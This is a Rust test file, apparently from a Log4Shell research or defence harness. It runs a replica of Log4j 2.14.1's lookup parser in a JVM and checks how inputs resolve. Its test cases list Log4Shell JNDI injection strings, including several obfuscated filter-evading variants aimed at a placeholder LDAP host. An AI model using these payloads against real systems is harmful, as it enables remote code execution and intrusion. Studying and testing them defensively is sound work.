//! The vulnerable logger's lookup parser, run in a real JVM: which JNDI name each message
//! (plain, nested, obfuscated) makes it resolve.

use std::io::Write;
use std::process::{Command, Stdio};

use veto_log4shell::java::{self, Toolchain};
use veto_log4shell::scenario::default_output_dir;

fn substitute(lines: &[&str]) -> Vec<String> {
    let tc = Toolchain::locate().expect("a JDK (see README)");
    let classes = java::build(
        &tc,
        &java::source_dir(),
        &default_output_dir().join("classes"),
    )
    .expect("the Java sources compile");
    let mut child = Command::new(&tc.java)
        .arg("-cp")
        .arg(&classes.app)
        .arg("veto.log4shell.app.LookupCheck")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let input = lines.join("\n") + "\n";
    child
        .stdin
        .take()
        .unwrap()
        .write_all(input.as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(str::to_string)
        .collect()
}

#[test]
fn lookups_resolve_like_log4j_2_14_1() {
    let cases: &[(&str, &str)] = &[
        // Plain and nested/obfuscated JNDI: all reach the same name.
        ("${jndi:ldap://h:1/a}", "[jndi ldap://h:1/a]"),
        ("${${lower:j}ndi:ldap://h:1/a}", "[jndi ldap://h:1/a]"),
        ("${${lower:J}ndi:ldap://h:1/a}", "[jndi ldap://h:1/a]"),
        ("${${upper:j}ndi:ldap://h:1/a}", "[jndi ldap://h:1/a]"),
        ("${${::-j}ndi:ldap://h:1/a}", "[jndi ldap://h:1/a]"),
        (
            "${${::-j}${::-n}${::-d}${::-i}:ldap://h:1/a}",
            "[jndi ldap://h:1/a]",
        ),
        (
            "${${env:NO_SUCH_VAR_X:-j}ndi${env:NO_SUCH_VAR_X:-:}ldap://h:1/a}",
            "[jndi ldap://h:1/a]",
        ),
        (
            "${${lower:jn}${lower:di}:${lower:LDAP}://h:1/a}",
            "[jndi ldap://h:1/a]",
        ),
        // The lookup sits inside ordinary text.
        (
            "user=${jndi:ldap://h:1/a} ok",
            "user=[jndi ldap://h:1/a] ok",
        ),
        // A name without a scheme is taken under java:comp/env/, as JndiLookup does.
        ("${jndi:foo}", "[jndi java:comp/env/foo]"),
        // Other lookups and defaults.
        ("${upper:abc}-${lower:DEF}", "ABC-def"),
        ("${nope:x:-fallback}", "fallback"),
        // Unresolvable and malformed text stays as written.
        ("${nope:x}", "${nope:x}"),
        ("${abc", "${abc"),
        ("plain text", "plain text"),
        // A failing lookup leaves the variable in place; nothing throws.
        ("${jndi:ldap://h:1/fail}", "${jndi:ldap://h:1/fail}"),
    ];
    let inputs: Vec<&str> = cases.iter().map(|(i, _)| *i).collect();
    let outputs = substitute(&inputs);
    assert_eq!(outputs.len(), cases.len());
    for ((input, expected), got) in cases.iter().zip(&outputs) {
        assert_eq!(got, expected, "input {input}");
    }
}
